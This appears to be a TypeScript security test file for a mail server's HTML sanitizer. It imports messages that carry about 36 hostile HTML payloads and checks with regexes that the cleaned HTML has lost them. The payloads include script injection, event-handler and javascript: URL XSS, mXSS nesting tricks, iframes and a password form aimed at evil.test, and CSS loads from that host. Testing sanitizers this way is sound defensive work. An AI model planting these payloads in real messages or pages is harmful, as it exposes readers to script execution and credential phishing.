/** Attacks in the HTML of a received message. Nothing may run, load or submit when it is read. */
import { type Attack, parsed, send, sendJson } from './attack.ts';
import type { World } from './world.ts';

/** Hostile HTML, each with a pattern that must not match the cleaned HTML. */
const HTML: readonly (readonly [string, RegExp])[] = [
  ['<script>alert(1)</script>', /<script|alert\(/i],
  ['<scr<script>ipt>alert(1)</script>', /<script/i],
  ['<img src=x onerror=alert(1)>', /onerror/i],
  ['<img src="x" ONERROR\n=\n"alert(1)">', /onerror/i],
  ['<svg onload=alert(1)>', /<svg|onload/i],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', /<svg|<animate|onbegin/i],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', /<math|<style|<img[^>]*onerror/i],
  ['<a href="javascript:alert(1)">x</a>', /javascript:/i],
  ['<a href="java&#9;script:alert(1)">x</a>', /java\s*script:/i],
  ['<a href="&#106;avascript:alert(1)">x</a>', /javascript:|&#106;/i],
  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', /href="?data:/i],
  ['<a href="vbscript:x">x</a>', /vbscript:/i],
  ['<iframe src="https://evil.test"></iframe>', /<iframe/i],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe|srcdoc/i],
  ['<object data="https://evil.test/x.swf"></object>', /<object/i],
  ['<embed src="https://evil.test/x.swf">', /<embed/i],
  ['<form action="https://evil.test"><input name=password><button>OK</button></form>', /<form|<input|<button|action=/i],
  ['<meta http-equiv=refresh content="0;url=https://evil.test">', /<meta/i],
  ['<base href="https://evil.test/">', /<base/i],
  ['<link rel=stylesheet href="https://evil.test/x.css">', /<link/i],
  ['<style>@import url(https://evil.test/x.css);</style>', /@import|evil\.test/i],
  ['<style>body{background:url(https://evil.test/x.png)}</style>', /url\(|evil\.test/i],
  ['<p style="background:url(https://evil.test/x.png)">x</p>', /url\(|evil\.test/i],
  ['<p style="position:fixed;top:0;left:0;width:100%;height:100%">log in</p>', /position:\s*fixed/i],
  ['<p style="width:expression(alert(1))">x</p>', /expression\(/i],
  ['<p style="behavior:url(x.htc)">x</p>', /behavior/i],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', /<img[^>]*onerror/i],
  ['<template><script>alert(1)</script></template>', /<script|<template/i],
  ['<!--[if gte mso 9]><script>alert(1)</script><![endif]-->', /<script|<!--/i],
  ['<details open ontoggle=alert(1)>x</details>', /ontoggle/i],
  ['<video><source onerror=alert(1) src=x></video>', /onerror/i],
  ['<isindex action="javascript:alert(1)">', /<isindex|javascript:/i],
  ['<p id="root" name="cookie">clobbered</p>', /id="root"|name="cookie"/i],
  ['<a href="https://evil.test" target="_top">x</a>', /target="?_top/i],
  ['<textarea><img title="</textarea><img src=x onerror=alert(1)>">', /<img[^>]*src=.?x[^>]*onerror/i],
  ['<portal src="https://evil.test">', /<portal/i],
];

let messages = 0;
/** Imports a message into the mailbox of eve and reads it, with its cleaned HTML. */
export async function importAndRead(world: World, contentType: string, body: string, headers = '') {
  const subject = `hostile ${++messages}`;
  const raw = `From: a@elsewhere.test\r\nMessage-ID: <hostile-${messages}@elsewhere.test>\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n${headers}Content-Type: ${contentType}\r\n\r\n${body}\r\n`;
  const imported = await send(world, 'POST', '/v1/import', {
    headers: { authorization: `Bearer ${world.eve.token}`, 'content-type': 'message/rfc822' },
    body: raw,
  });
  if (imported.status > 299) return imported;
  const found = parsed(await sendJson(world, 'GET', '/v1/folders/inbox/messages?limit=200', world.eve.token)).data;
  const id = found.find((message: { subject: string }) => message.subject === subject)?.id;
  return sendJson(world, 'GET', `/v1/messages/${id}`, world.eve.token);
}

export const MAIL_HTML_ATTACKS: readonly Attack[] = HTML.map(([html, forbidden]) => ({
  name: html,
  attempt: (world) => importAndRead(world, 'text/html; charset=utf-8', `<p>hello there</p>${html}`),
  refusal: [200],
  gotThrough: (reply) => {
    const shown = parsed(reply).html;
    if (!String(shown).includes('hello there')) return `the message was not read: ${shown}`;
    return forbidden.test(shown) ? `the HTML is ${shown}` : null;
  },
}));
